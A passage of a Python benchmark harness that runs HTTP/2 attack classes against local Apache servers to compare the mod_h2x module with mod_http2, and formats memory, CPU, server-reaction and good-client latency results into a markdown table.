        by.setdefault(c.reaction[0] if c.reaction else "none", []).append(c)
    cut = by.pop("none", []) if len(by) > 1 else []
    parts = []
    for what, cs in sorted(by.items(), key=lambda kv: -len(kv[1])):
        n = len(cs)
        conns = (f"{n:,} conns, median" if n > 1 else "1 conn")
        if what == "none":
            parts.append(f"none ({n:,} conn{'s' if n > 1 else ''} open to the end)")
            continue
        frames = statistics.median(c.reaction[1] for c in cs)
        t = fmt_t(statistics.median(c.reaction[2] for c in cs))
        if what.startswith("GOAWAY"):
            last = statistics.median(c.goaway[1] for c in cs)
            what = what[:-1] + f", last stream {last:,.0f})"
            acks = [(k, statistics.median(c.before_goaway[k] for c in cs))
                    for k in ("PING", "SETTINGS")]
            acks = [f"{n:,.0f} {k} ACKs" for k, n in acks if n > 10]
            if acks:
                what += " after " + " and ".join(acks) + ","
        if ctx.show_frames:
            parts.append(f"{what} seen after {frames:,.0f} frames written, {t} ({conns})")
        else:
            parts.append(f"{what} after {t} ({conns})")
    if cut:
        parts.append(f"+{len(cut):,} conn{'s' if len(cut) > 1 else ''} still open when the "
                     "attack ended")
    return "; ".join(parts)


def fmt_t(t: float) -> str:
    return f"{t * 1000:.0f} ms" if t < 1 else f"{t:.1f} s"


# -- the table ----------------------------------------------------------------------------

def fmt_mb(b: float) -> str:
    return f"+{b / 1e6:.1f} MB"


def ratio(a: Optional[float], b: Optional[float], floor: float) -> str:
    """a / b, with b (and a) counted as at least `floor` (noise level)."""
    if a is None or b is None:
        return ""
    if max(a, b) < floor:
        return "≈ (both small)"
    r = max(a, floor) / max(b, floor)
    return f"{r:.0f}×" if r >= 10 else f"{r:.2g}×"


def rss_cell(r: Dict) -> str:
    end = r["rss_end_growth"]
    return f"{fmt_mb(r['rss_peak_growth'])} ({'+' if end >= 0 else '−'}{abs(end) / 1e6:.1f} MB)"


def cpu_cell(r: Dict) -> str:
    s = f"{r['cpu_s']:.2f} s"
    return s


def good_cell(g: Dict) -> str:
    s = f"{g['ok']:,} ok, {g['failed']:,} failed"
    if g.get("why") and g["failed"]:
        s += " (" + ", ".join(f"{n}× {w}" for w, n in sorted(g["why"].items(),
                                                             key=lambda kv: -kv[1])) + ")"
    if g.get("retried"):
        s += f", {g['retried']} retried after a GOAWAY"
    if g["p50_ms"] is not None:
        s += f"; p50 {g['p50_ms']:.1f} ms, max {g['max_ms']:.0f} ms"
    return s


def reaction_cell(r: Dict) -> str:
    parts = [r["reaction"] or "—"]
    if r["frames_total"]:
        parts.append(f"{r['frames_total']:,} frames written in all")
    if r["rst"]:
        parts.append("RST_STREAM: " + ", ".join(
            f"{n:,}× {code}" for code, n in sorted(r["rst"].items(), key=lambda kv: -kv[1])))
    parts += r["notes"]
    if r["connect_errors"]:
        parts.append("connect failed: " + ", ".join(f"{n}× {w}"
                                                    for w, n in r["connect_errors"].items()))
    if not r["server_alive"]:
        parts.append("**httpd parent gone**")
    elif r["children_lost"]:
        parts.append(f"**{r['children_lost']} MPM child process(es) died**")
    for line in r["crash_log"]:
        parts.append(f"error log: `{line[-160:]}`")
    return "<br>".join(p.replace("|", "\\|") for p in parts)


def markdown(results: Dict[str, Dict[str, Dict]], meta: Dict) -> str:
    a, b = "mod_h2x", "mod_http2"
    lines = [
        f"Run {meta['date']}: `{meta['command']}`; mod_h2x from {meta['module']} built "
        f"{meta['module_mtime']} (the checkout was at {meta['commit']} when the run started); "
        f"{meta['httpd']}, Debian's mod_http2 "
        f"({meta['http2_version']}), libnghttp2 {meta['nghttp2']}; "
        f"{meta['seconds']:g} s per attack, {meta['cpus']} CPUs, load average "
        f"{meta['load']} at the start{meta['pinning']}. Ratios are mod_h2x / mod_http2 "
        "(below 1: mod_h2x used less / was faster); RSS under 1 MB, CPU under 0.1 s and "
        "latency under 1 ms count as that floor.",
        "",
        f"| attack | measure | {a} | {b} | ratio |",
        "|---|---|---|---|---|",
    ]
    for att in ATTACKS:
        if att.name not in results:
            continue
        ra, rb = results[att.name].get(a), results[att.name].get(b)
        if ra is None or rb is None:
            continue
        title = f"**{att.name}**: {att.title}"
        rows = [
            ("server RSS growth: peak (1 s after)", rss_cell(ra), rss_cell(rb),
             ratio(ra["rss_peak_growth"], rb["rss_peak_growth"], 1e6)),
            ("server CPU", cpu_cell(ra), cpu_cell(rb), ratio(ra["cpu_s"], rb["cpu_s"], 0.1)),
        ]
        if att.cgi:
            rows.append(("CGI processes started", f"{ra['cgi_started']:,}",
                         f"{rb['cgi_started']:,}", ratio(ra["cgi_started"], rb["cgi_started"],
                                                         1)))
        if att.name != "baseline":
            rows.append(("server reaction", reaction_cell(ra), reaction_cell(rb), ""))
        ga, gb = ra["good"], rb["good"]
        rows.append(("good client", good_cell(ga), good_cell(gb),
                     ("p50 " + ratio(ga["p50_ms"], gb["p50_ms"], 1.0)
                      if ga["p50_ms"] and gb["p50_ms"] else "")
                     + (f", failed {ga['failed']} vs {gb['failed']}"
                        if ga["failed"] or gb["failed"] else "")))
        for i, (measure, ca, cb, rt) in enumerate(rows):
            lines.append(f"| {title if i == 0 else ''} | {measure} | {ca} | {cb} | {rt} |")
    return "\n".join(lines) + "\n"


# -- main ---------------------------------------------------------------------------------

def log(msg: str):
    print(f"[attacks {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def first_line(cmd: List[str]) -> str:
    try:
        return subprocess.run(cmd, capture_output=True, text=True, cwd=REPO,
                              timeout=10).stdout.strip().splitlines()[0]
    except (OSError, IndexError, subprocess.TimeoutExpired):
        return ""


def deb_version(pkg: str) -> str:
    return first_line(["dpkg-query", "-W", "-f=${Version}", pkg])


def write_doc(md: str) -> bool:
    try:
        with open(DOC) as f:
            text = f.read()
    except OSError:
        log(f"{DOC} missing: not written")
        return False
    i, j = text.find(BEGIN), text.find(END)
    if i < 0 or j < i:
        log(f"{os.path.relpath(DOC, REPO)} has no {BEGIN} ... {END} markers: not written")
        return False
    with open(DOC, "w") as f:
        f.write(text[:i + len(BEGIN)] + "\n\n" + md + "\n" + text[j:])
    return True


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=None,
                    help="length of each attack (default 8; --quick: 3)")
    ap.add_argument("--quick", action="store_true", help="3 s per attack, a smoke run")
    ap.add_argument("--only", default="", help="comma-separated attack names (see --list)")
    ap.add_argument("--list", action="store_true", help="list the attacks and exit")
    ap.add_argument("--module", default=MODULES["mod_h2x"][1],
                    help="mod_h2x's shared object (default: the build tree's; copied first)")
    ap.add_argument("--no-build", action="store_true",
                    help="skip make and the test module build")
    ap.add_argument("--no-pin", action="store_true",
                    help="do not pin httpd to CPU 0 and the clients to CPU 1")
    ap.add_argument("--doc", action="store_true", help="write the table into docs/security.md")
    ap.add_argument("--good-client", action="store_true", help=argparse.SUPPRESS)
    opts = ap.parse_args(argv)
    if opts.good_client:
        return good_client_main()
    if opts.list:
        for att in ATTACKS:
            print(f"{att.name:16} {att.title}")
        return 0
    seconds = opts.seconds or (3.0 if opts.quick else 8.0)
    names = [n for n in opts.only.split(",") if n]
    unknown = [n for n in names if n not in {a.name for a in ATTACKS}]
    if unknown:
        print(f"attacks: unknown attack(s) {', '.join(unknown)} (see --list)", file=sys.stderr)
        return 2
    attacks = [a for a in ATTACKS if not names or a.name in names]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    raise_nofile()

    default_module = os.path.abspath(opts.module) == os.path.abspath(MODULES["mod_h2x"][1])
    if not opts.no_build:
        if default_module:
            log("make")
            subprocess.run(["make"], cwd=REPO, check=True, stdout=subprocess.DEVNULL)
        if not os.path.exists(TEST_SO):
            log("building the test module")
            subprocess.run([os.path.join(REPO, "test", "mod_h2x_test", "build.sh")],
                           check=True, stdout=subprocess.DEVNULL)
    if not os.path.exists(TEST_SO):
        print("attacks: the test module is needed (test/mod_h2x_test/build.sh)",
              file=sys.stderr)
        return 1
    pin = not opts.no_pin and (os.cpu_count() or 1) >= 2 and shutil.which("taskset")
    if pin:
        os.sched_setaffinity(0, {1})      # this process and the good client: CPU 1

    workdir = tempfile.mkdtemp(prefix="h2xattacks-")
    piddir = tempfile.mkdtemp(prefix="h2xattacks-pids-", dir="/tmp")
    results: Dict[str, Dict[str, Dict]] = {}
    load = os.getloadavg()
    t_start = time.monotonic()
    module_mtime = datetime.datetime.fromtimestamp(
        os.path.getmtime(opts.module)).astimezone().isoformat(timespec="seconds")
    commit = first_line(["git", "rev-parse", "--short", "HEAD"]) + (
        " (with uncommitted changes)" if first_line(["git", "status", "--porcelain",
                                                     "--untracked-files=no"]) else "")
    try:
        os.chmod(workdir, 0o755)
        os.chmod(piddir, 0o777)           # the CGI writes as www-data
        docroot, cgibin = os.path.join(workdir, "htdocs"), os.path.join(workdir, "cgi-bin")
        os.makedirs(docroot)
        for name, size in (("1k.txt", 1024), ("10m.bin", 10 * 1024 * 1024)):
            with open(os.path.join(docroot, name), "wb") as f:
                f.write(pattern_bytes(size))
        shutil.copytree(os.path.join(REPO, "test", "cgi-bin"), cgibin)
        with open(os.path.join(cgibin, "count.sh"), "w") as f:
            f.write(COUNT_CGI.replace("@DIR@", piddir))
        for d in (docroot, cgibin):
            os.chmod(d, 0o755)
        for name in os.listdir(cgibin):
            os.chmod(os.path.join(cgibin, name), 0o755)
        cert, key = make_cert(workdir)
        so_paths = {"mod_h2x": os.path.join(workdir, "mod_h2x.so"),
                    "mod_http2": os.path.join(workdir, "mod_http2.so")}
        shutil.copy2(opts.module, so_paths["mod_h2x"])
        shutil.copy2(HTTP2_SO, so_paths["mod_http2"])
        values = {"TIMEOUT": str(TIMEOUT), "CERT": cert, "KEY": key, "EXTRA": "",
                  "TEST_MODULE": f'LoadModule h2x_test_module "{TEST_SO}"'}
        log(f"{len(attacks)} attacks x {seconds:g} s, mod_h2x from {opts.module}")
        next_goods = [spawn_good_client() for _ in MODULES]
        for i, att in enumerate(attacks):
            order = list(MODULES) if i % 2 == 0 else list(reversed(MODULES))
            servers = {m: Server(m, workdir, docroot, cgibin, values,
                                 pin_cpu=0 if pin else None, so_path=so_paths[m])
                       for m in order}
            # The good clients start (python, imports) while the previous
            # class is still measured: each is ready when its server is.
            goods = {m: next_goods.pop() for m in order}
            try:
                threads = [threading.Thread(target=s.start) for s in servers.values()]
                for t in threads:
                    t.start()
                for t in threads:
                    t.join()
                for m in order:
                    s = servers[m]
                    if s.proc is None or s.proc.poll() is not None:
                        raise RuntimeError(f"{m}: httpd did not start:\n{s.log_tail()}")
                results[att.name] = {}
                for m in order:
                    s = servers[m]
                    r = run_one(att, s, seconds if att.name != "baseline" else min(seconds, 4),
                                piddir, goods[m])
                    results[att.name][m] = r
                    if m == order[-1] and i + 1 < len(attacks):
                        next_goods = [spawn_good_client() for _ in MODULES]
                    g = r["good"]
                    log(f"{att.name:15} {m:9} RSS {fmt_mb(r['rss_peak_growth'])}, CPU "
                        f"{r['cpu_s']:.2f} s, good {g['ok']} ok/{g['failed']} failed p50 "
                        f"{g['p50_ms'] or 0:.1f} ms max {g['max_ms'] or 0:.0f} ms"
                        + (f", CGIs {r['cgi_started']}" if att.cgi else "")
                        + f"; {r['reaction']}; {r['frames_total']:,} frames"
                        + (f"; {'; '.join(r['notes'])}" if r["notes"] else "")
                        + (f"; RST {r['rst']}" if r["rst"] else "")
                        + ("; CRASH " + " / ".join(r["crash_log"]) if r["crash_log"] else ""))
            finally:
                # Both at once; not overlapping the next class: the exiting
                # servers would compete with the next ones for CPU 0.
                stopping = [threading.Thread(target=s.stop) for s in servers.values()]
                for t in stopping:
                    t.start()
                for t in stopping:
                    t.join()
    finally:
        for g in spawned:
            if g.poll() is None:              # not used: a class failed before it
                g.kill()
                g.wait()

        shutil.rmtree(workdir, ignore_errors=True)
        shutil.rmtree(piddir, ignore_errors=True)

    meta = {
        "date": datetime.datetime.now().astimezone().isoformat(timespec="seconds"),
        "command": "bench/attacks" + "".join(" " + a for a in (argv or sys.argv[1:])),
        "commit": commit,
        "module": os.path.basename(opts.module) if default_module else opts.module,
        "module_mtime": module_mtime,
        "httpd": first_line(["/usr/sbin/apache2", "-v"]).replace("Server version: ", ""),
        "http2_version": "apache2-bin " + deb_version("apache2-bin"),
        "nghttp2": deb_version("libnghttp2-14"),
        "seconds": seconds, "cpus": os.cpu_count(),
        "load": " / ".join(f"{x:.1f}" for x in load),
        "pinning": "; httpd pinned to CPU 0, attacker and good client to CPU 1" if pin else "",
        "wall_s": round(time.monotonic() - t_start),
    }
    md = markdown(results, meta)
    print(md)
    os.makedirs(RESULTS, exist_ok=True)
    with open(os.path.join(RESULTS, "attacks.md"), "w") as f:
        f.write(md)
    with open(os.path.join(RESULTS, "attacks.json"), "w") as f:
        json.dump({"meta": meta, "results": results}, f, indent=1)
    log(f"done in {meta['wall_s']} s; bench/results/attacks.md, attacks.json")
    if opts.doc:
        if write_doc(md):
            log(f"wrote the table into {os.path.relpath(DOC, REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
